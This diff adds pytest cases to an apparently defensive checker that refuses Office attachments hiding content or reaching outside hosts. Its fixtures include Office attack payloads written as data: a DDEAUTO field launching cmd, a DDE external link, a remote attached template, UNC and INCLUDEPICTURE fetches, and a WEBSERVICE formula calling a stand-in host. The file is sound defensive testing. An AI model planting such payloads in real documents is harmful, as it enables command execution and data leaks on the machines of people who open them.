@@ -3,6 +3,7 @@
 import contextlib
 import io
 import struct
+import warnings
 import zipfile
 from typing import Any
 
@@ -183,6 +184,78 @@ BOMB = '<!DOCTYPE d [<!ENTITY a "1"><!ENTITY b "&a;&a;">]>'
 def test_what_cannot_be_looked_through_is_refused(name: str, data: bytes) -> None:
     with pytest.raises(BadAttachment):
         check(name, data)
+
+
+def with_more(data: bytes, *more: tuple[str, str | bytes]) -> bytes:
+    """The same file with further parts, also of names that it has already."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as file, warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # two of one name
+        for info in old.infolist():
+            file.writestr(info.filename, old.read(info))
+        for name, text in more:
+            file.writestr(name, text)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        # An ID card's photograph under a name that is let through unread.
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/media/printerSettings.png", b"\x89PNG"))),
+        ("表.xlsx", with_more(saved(Workbook()), ("docProps/thumbnail.jpeg", b"\xff\xd8"))),
+        ("表.docx", docx(p("附"), {"word/embeddings/printerSettings1.bin": b"x"})),
+        # One program reads the first of two, another the last.
+        ("表.docx", with_more(docx(p(PHONE)), ("word/document.xml", f"<w:document {W}>{p('无')}</w:document>"))),
+        ("表.docx", with_more(docx(p("无")), ("Word/Document.xml", f"<w:document {W}>{p('无')}</w:document>"))),
+        # What fetches or starts something when it is opened.
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/macrosheets/sheet1.xml", "<a/>"))),
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/externalLinks/externalLink1.xml", '<a ddeService="cmd"/>'))),
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/connections.xml", "<a/>"))),
+        ("表.docx", docx(p("模板"), {"word/_rels/settings.xml.rels": (
+            '<x><Relationship Type="x/attachedTemplate" Target="http://e/x.dotm" TargetMode="External"/></x>')})),
+        ("表.docx", docx(p("图"), {"word/_rels/document.xml.rels": (
+            '<x><Relationship Type="x/image" Target="file:///\\\\e\\x.png" TargetMode="External"/></x>')})),
+        ("表.docx", docx('<w:p><w:r><w:instrText> DDEAUTO cmd "/k calc"</w:instrText></w:r></w:p>')),
+        ("表.docx", docx('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://e/x.png"/></w:p>')),
+        ("表.xlsx", packed({
+            "xl/workbook.xml": '<workbook xmlns:r="r"><sheets><sheet name="表" r:id="r1"/></sheets></workbook>',
+            "xl/_rels/workbook.xml.rels": '<x><Relationship Id="r1" Target="worksheets/sheet1.xml"/></x>',
+            "xl/worksheets/sheet1.xml": '<x><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://e")</f></c></row></x>',
+        })),
+    ],
+)  # fmt: skip
+def test_what_is_hidden_from_the_reader_or_reaches_elsewhere_is_refused(name: str, data: bytes) -> None:
+    with pytest.raises(BadAttachment):
+        check(name, data)
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("表.docx", docx(f'<w:p><v:textpath xmlns:v="v" string="{PHONE}"/></w:p>')),
+        ("表.docx", docx(f'<w:p><w:sdt><w:listItem w:displayText="张三 {PHONE}" w:value="1"/></w:sdt></w:p>')),
+        ("表.docx", docx(p("无"), {"word/settings.xml": f'<w:settings {W}><w:docVar w:val="{CARD}"/></w:settings>'})),
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/pivotCache/pivotCacheRecords1.xml", f'<a><s v="{CARD}"/></a>'))),
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/tables/table1.xml", f'<a><filter val="{PHONE}"/></a>'))),
+        ("表.xlsx", with_more(saved(Workbook()), ("xl/s.xml", f'<a><numFmt formatCode="&quot;{PHONE}&quot;"/></a>'))),
+    ],
+)  # fmt: skip
+def test_numbers_in_attributes_of_any_name_are_seen(name: str, data: bytes) -> None:
+    refused(name, data)
+
+
+def test_what_programs_write_by_themselves_passes() -> None:
+    link = '<Relationship Type="x/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
+    disk = '<Relationship Type="x/attachedTemplate" Target="file:///C:/a/Normal.dotm" TargetMode="External"/>'
+    font = '<w:font w:name="宋体"><w:panose1 w:val="02010600030101010101"/><w:sig w:usb0="00000003"/></w:font>'
+    parts: dict[str, str | bytes] = {
+        "word/_rels/document.xml.rels": f"<x>{link}{disk}</x>", "word/fontTable.xml": f"<w:fonts {W}>{font}</w:fonts>",
+        "word/x.xml": '<a uid="{13800138-0010-4380-0138-001380013800}" width="12.13800138001"/>',
+    }  # fmt: skip
+    assert check("表.docx", docx('<w:p><w:fldSimple w:instr="HYPERLINK https://www.gov.cn"/></w:p>', parts))
+    printer = ("xl/printerSettings/printerSettings1.bin", b"x")
+    assert check("表.xlsx", with_more(saved(Workbook()), printer))
 
 
 def test_a_zip_that_lies_about_its_sizes() -> None:
